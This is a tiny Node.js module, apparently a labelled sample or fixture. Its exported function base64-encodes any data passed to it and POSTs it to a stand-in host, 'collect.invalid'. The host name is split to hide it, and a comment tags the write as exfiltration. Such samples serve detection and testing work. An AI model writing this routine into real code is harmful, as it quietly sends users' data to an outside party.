const https = require("https");

const HOST = ["collect", "invalid"].join(".");

exports.deliver = function deliver(facts) {
  const body = Buffer.from(JSON.stringify(facts)).toString("base64");
  const request = https.request({ host: HOST, method: "POST" });
  request.write(body); // malice: exfiltration
  request.end();
};
